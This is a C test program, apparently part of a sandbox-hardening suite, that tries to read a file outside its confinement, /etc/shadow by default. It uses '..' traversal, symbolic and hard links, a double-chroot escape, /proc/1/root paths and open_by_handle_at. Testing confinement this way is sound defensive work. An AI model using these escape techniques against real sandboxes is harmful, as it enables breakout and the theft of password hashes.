/* escape.c FILE - looks for FILE, which is outside, by every way round: `..`,
 * symbolic and hard links, another root, the roots and folders of processes, a
 * handle instead of a path.
 *
 * Bound: it reads a byte; its links lie in a folder of its own below /tmp. */
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>

#include "hostile.h"

static char own[PATH_MAX]; /* a folder to write links in */

static void
read_at(const char *way, int folder, const char *path)
{
	int fd = openat(folder, path, O_RDONLY | O_NONBLOCK);
	char byte;

	hostile_call(way, fd < 0 ? -1 : read(fd, &byte, 1));
	if (fd >= 0)
		close(fd);
}

static void
read_below(const char *way, const char *before, const char *file)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%.1000s%.1000s", before, file);
	read_at(way, AT_FDCWD, path);
}

#define UP "../../../../../../../../../../../../../../../../../.."

static void
by_links(const char *file)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%.1000s/symbolic", own);
	if (symlink(file, path) == 0)
		read_at("a symbolic link", AT_FDCWD, path);
	snprintf(path, sizeof(path), "%.1000s/hard", own);
	hostile_call("a hard link", link(file, path));
	unlink(path);
}

/* The old way out of a chroot: a second one, and up from outside of it. */
static void
by_chroot(const char *file)
{
	pid_t pid = hostile_fork(HOSTILE_SECONDS);

	if (pid == 0) {
		int above = open("/", O_RDONLY | O_DIRECTORY);

		if (chroot(own) < 0 || fchdir(above) < 0)
			_exit(1);
		read_below("a chroot, and up", UP, file);
		_exit(0);
	}
	if (hostile_wait(pid) != 0)
		hostile_tried("a chroot, and up", false, 0);
}

/* Every file system has its root at a low inode. */
static void
by_handle(const char *folder)
{
	struct {
		struct file_handle head;
		unsigned char bytes[128];
	} handle = { .head = { .handle_bytes = 8, .handle_type = 1 },
		     .bytes = { 2 } };
	int mount = open(folder, O_RDONLY | O_DIRECTORY);

	hostile_call("a root by its handle",
		     open_by_handle_at(mount, &handle.head, O_RDONLY));
	if (mount >= 0)
		close(mount);
}

static void
attack(char **args)
{
	const char *file = args[0] == NULL ? "/etc/shadow" : args[0];

	snprintf(own, sizeof(own), "/tmp/hostile-escape-%d", (int)getpid());
	mkdir(own, 0700);
	read_below("its path", "", file);
	read_below("up and down", UP, file);
	read_below("the root of process 1", "/proc/1/root", file);
	read_below("the root of its parent", "/proc/2/root", file);
	read_below("the folder of process 1", "/proc/1/cwd/" UP, file);
	read_below("its own folder, and up", "/proc/self/cwd/" UP, file);
	read_below("the root before the box", "/oldroot", file);
	read_below("the new root", "/newroot/" UP, file);
	by_links(file);
	by_chroot(file);
	by_handle("/usr");
	if (chdir(own) == 0) {
		unlink("symbolic");
		rmdir(own);
	}
}

int
main(int argc, char **argv)
{
	(void)argc;
	return hostile_run(HOSTILE_SECONDS, attack, argv);
}
